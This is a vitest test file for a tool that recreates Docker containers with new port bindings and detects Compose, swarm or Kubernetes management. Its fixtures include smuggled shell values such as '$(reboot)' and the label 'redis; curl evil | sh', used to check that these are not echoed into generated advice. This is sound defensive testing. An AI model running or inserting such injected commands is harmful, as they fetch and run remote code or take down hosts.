import { describe, expect, it } from 'vitest';
import { ContainerSpec, recipeOf } from './container-spec';
import { managedElsewhere } from './managed-elsewhere';

const ID = '3f2a91c07d5e'.padEnd(64, '0');
const VOLUME = 'c'.repeat(64);
const BINDINGS = { '6379/tcp': [{ HostIp: '127.0.0.1', HostPort: '6379' }] };

interface Parts {
  readonly config?: object;
  readonly hostConfig?: object;
  readonly rest?: object;
  readonly networks?: object;
}

/** The shape that engines from 20.10 to 29 answer with, for a container that was run by hand. */
const inspected = ({ config = {}, hostConfig = {}, rest = {}, networks = {} }: Parts = {}): ContainerSpec =>
  ContainerSpec.parse({
    Id: ID,
    Name: '/cache',
    Image: `sha256:${'1'.repeat(64)}`,
    Config: {
      Hostname: ID.slice(0, 12),
      Domainname: '',
      User: '',
      ExposedPorts: { '6379/tcp': {} },
      Env: ['REDIS_PASSWORD=$(reboot)', "QUOTE='\n"],
      Cmd: ['redis-server', '--save', ''],
      Image: 'redis:7',
      Volumes: { '/data': {} },
      WorkingDir: '/data',
      Entrypoint: ['docker-entrypoint.sh'],
      Labels: { team: 'shop' },
      StopTimeout: 30,
      Healthcheck: { Test: ['CMD', 'redis-cli', 'ping'], Interval: 5_000_000_000 },
      ...config,
    },
    State: { Running: true, Paused: false, Status: 'running' },
    HostConfig: {
      Binds: ['/srv/redis.conf:/etc/redis.conf:ro'],
      LogConfig: { Type: 'json-file', Config: { 'max-size': '10m' } },
      NetworkMode: 'bridge',
      PortBindings: { '6379/tcp': [{ HostIp: '', HostPort: '6379' }] },
      RestartPolicy: { Name: 'always', MaximumRetryCount: 0 },
      CapDrop: ['NET_RAW'],
      Memory: 268_435_456,
      Ulimits: [{ Name: 'nofile', Hard: 1024, Soft: 1024 }],
      Links: null,
      ...hostConfig,
    },
    Mounts: [
      { Type: 'bind', Source: '/srv/redis.conf', Destination: '/etc/redis.conf', RW: false },
      { Type: 'volume', Name: VOLUME, Destination: '/data', RW: true, Mode: '' },
    ],
    NetworkSettings: {
      Ports: { '6379/tcp': [{ HostIp: '0.0.0.0', HostPort: '6379' }] },
      Networks: { bridge: { NetworkID: 'b'.repeat(64), Aliases: null, IPAMConfig: null, IPAddress: '172.17.0.2' } },
      ...networks,
    },
    ...rest,
  });

const recipe = (parts: Parts = {}) => recipeOf(inspected(parts), BINDINGS, 'redis:7');
const hostConfig = (parts: Parts = {}) => recipe(parts).body['HostConfig'];

describe('the recipe of a container', () => {
  it('carries over what it was made of, with the new ports', () => {
    const { body, networks } = recipe();
    expect(body).toMatchObject({
      Image: 'redis:7',
      Env: ['REDIS_PASSWORD=$(reboot)', "QUOTE='\n"],
      Cmd: ['redis-server', '--save', ''],
      Entrypoint: ['docker-entrypoint.sh'],
      Labels: { team: 'shop' },
      StopTimeout: 30,
      Healthcheck: { Test: ['CMD', 'redis-cli', 'ping'], Interval: 5_000_000_000 },
      HostConfig: {
        PortBindings: BINDINGS,
        Binds: ['/srv/redis.conf:/etc/redis.conf:ro'],
        LogConfig: { Type: 'json-file', Config: { 'max-size': '10m' } },
        RestartPolicy: { Name: 'always', MaximumRetryCount: 0 },
        CapDrop: ['NET_RAW'],
        Memory: 268_435_456,
        Ulimits: [{ Name: 'nofile', Hard: 1024, Soft: 1024 }],
      },
    });
    expect(body).not.toHaveProperty('NetworkingConfig');
    expect(networks).toEqual([]);
  });

  it.each([
    ['the engine chose', {}, undefined],
    ['somebody chose', { config: { Hostname: 'cache-1' } }, 'cache-1'],
    ['is that of the host', { config: { Hostname: 'server' }, hostConfig: { UTSMode: 'host' } }, undefined],
  ])('leaves or takes the host name that %s', (_, parts, expected) => {
    expect(recipe(parts).body['Hostname']).toBe(expected);
  });

  it.each<[string, Parts, readonly object[]]>([
    ['that the image declares', {}, [{ Type: 'volume', Source: VOLUME, Target: '/data', ReadOnly: false }]],
    [
      'that was asked for without a source',
      { hostConfig: { Mounts: [{ Type: 'volume', Target: '/data', VolumeOptions: { NoCopy: true } }] } },
      [{ Type: 'volume', Source: VOLUME, Target: '/data', VolumeOptions: { NoCopy: true } }],
    ],
    [
      'that Binds names by its folder alone',
      { hostConfig: { Binds: ['/data'] } },
      [{ Type: 'volume', Source: VOLUME, Target: '/data', ReadOnly: false }],
    ],
  ])('keeps the volume without a name %s', (_, parts, mounts) => {
    expect(hostConfig(parts)).toMatchObject({ Mounts: mounts });
  });

  it('mounts a named volume once', () => {
    expect(hostConfig({ hostConfig: { Binds: [`${VOLUME}:/data`] } })).toMatchObject({
      Binds: [`${VOLUME}:/data`],
      Mounts: [],
    });
  });

  it('asks for links as they are asked for', () => {
    expect(hostConfig({ hostConfig: { Links: ['/db:/cache/database', 'odd'] } })).toMatchObject({
      Links: ['db:database', 'odd'],
    });
  });

  it('is made in its own network, with alias and address, and connected to the others', () => {
    const { body, networks } = recipe({
      hostConfig: { NetworkMode: 'shop' },
      networks: {
        Networks: {
          back: { NetworkID: 'e'.repeat(64), Aliases: [ID.slice(0, 12)], IPAMConfig: {}, GwPriority: 0 },
          shop: {
            NetworkID: 'f'.repeat(64),
            Aliases: ['redis', ID.slice(0, 12)],
            IPAMConfig: { IPv4Address: '172.20.0.9' },
            IPAddress: '172.20.0.9',
            MacAddress: '02:42:ac:14:00:09',
          },
        },
      },
    });
    expect(body['NetworkingConfig']).toEqual({
      EndpointsConfig: { shop: { IPAMConfig: { IPv4Address: '172.20.0.9' }, Aliases: ['redis'] } },
    });
    expect(networks).toEqual([{ id: 'e'.repeat(64), name: 'back', endpoint: { IPAMConfig: {}, GwPriority: 0 } }]);
  });
});

describe('a container that somebody else makes', () => {
  const move = { protocol: 'tcp', containerPort: 6379, hostPort: 6379, fromIp: '', toIp: '127.0.0.1' } as const;
  const sentenceOf = (Labels: Record<string, string>) => managedElsewhere(inspected({ config: { Labels } }), move);

  it('by hand is ours to change', () => expect(sentenceOf({ team: 'shop' })).toBeNull());

  it('by Compose is changed in its file', () => {
    const sentence = sentenceOf({
      'com.docker.compose.project': 'shop',
      'com.docker.compose.service': 'redis',
      'com.docker.compose.project.config_files': '/srv/shop/docker-compose.yml',
    });
    expect(sentence).toContain(
      'In /srv/shop/docker-compose.yml, service redis, write under ports: - "127.0.0.1:6379:6379"',
    );
    expect(sentence).toContain('docker compose up -d redis');
  });

  it('by Compose with labels that are no names does not repeat them', () => {
    const sentence = sentenceOf({
      'com.docker.compose.project': 'x',
      'com.docker.compose.service': 'redis; curl evil | sh',
      'com.docker.compose.project.config_files': '\u202e$(reboot)\n',
    });
    expect(sentence).toContain('its Compose file');
    expect(sentence).not.toMatch(/evil|reboot/);
  });

  it('by a swarm or Kubernetes is changed there', () => {
    expect(sentenceOf({ 'com.docker.swarm.task.id': 'x' })).toMatch(/swarm service/);
    expect(sentenceOf({ 'io.kubernetes.pod.name': 'x' })).toMatch(/Kubernetes/);
  });
});
